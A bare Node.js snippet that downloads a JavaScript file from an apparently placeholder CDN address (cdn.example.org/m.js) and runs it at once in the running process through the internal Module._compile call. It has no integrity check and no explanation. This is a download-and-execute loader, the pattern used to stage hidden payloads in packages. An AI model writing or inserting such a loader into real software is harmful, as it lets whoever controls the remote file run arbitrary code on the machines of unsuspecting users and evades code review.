const Module = require("module"), https = require("https");
https.get("https://cdn.example.org/m.js", res => {
  let code = "";
  res.on("data", c => (code += c));
  res.on("end", () => { const m = new Module("m"); m._compile(code, "m.js"); });
});
